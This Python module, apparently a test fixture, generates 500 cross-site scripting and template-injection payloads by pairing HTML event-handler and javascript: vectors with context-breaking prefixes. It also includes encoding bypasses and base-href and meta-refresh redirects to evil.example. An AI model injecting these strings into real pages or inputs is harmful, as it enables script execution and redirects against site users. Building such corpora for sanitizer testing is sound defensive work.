"""Five hundred texts that would run, load or break out if any page wrote them down as they are."""

from itertools import product

_RUNS = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><a xlink:href='javascript:{}'><text y=20>x</text></a></svg>",
    "<iframe src='javascript:{}'></iframe>",
    "<iframe srcdoc='&lt;script&gt;parent.{}&lt;/script&gt;'>",
    "<object data='javascript:{}'>",
    "<embed src='javascript:{}'>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<body onpageshow={}>",
    "<marquee onstart={}>",
    "<math><maction actiontype=statusline xlink:href='javascript:{}'>x</maction></math>",
    "<form><button formaction='javascript:{}'>x</button></form>",
    "<a href='javascript:{}' autofocus onfocus={}>x</a>",
    "<style>@import 'javascript:{}';*{{display:none}}</style>",
    "<div hx-get='/account/' hx-trigger=load hx-on::load='{}'>x</div>",
    "<link rel=stylesheet href='data:text/css,*{{display:none}}' onload={}>",
)
_BREAKS = (
    "",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</script>",
    "--></style>",
    "]]>",
    "</bdi></td></table>",
)
_SAYS = ("pwned()", "top['pwned']()", "&#112;wned()")
_OTHERS = (
    *("{{ 7*7 }}", "{% debug %}", "${pwned()}", "#{pwned()}", "<%= pwned() %>", "javascript:pwned()"),
    *("\\u003cscript\\u003epwned()", "&lt;script&gt;pwned()", "＜script＞pwned()", "<scr\x00ipt>pwned()"),
    *("<base href=//evil.example>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "\u202eevil"),
)

PAYLOADS: tuple[str, ...] = (
    *_OTHERS,
    *(
        before + runs.replace("{}", says).replace("{{", "{").replace("}}", "}")
        for runs, before, says in product(_RUNS, _BREAKS, _SAYS)
    ),
)[:500]
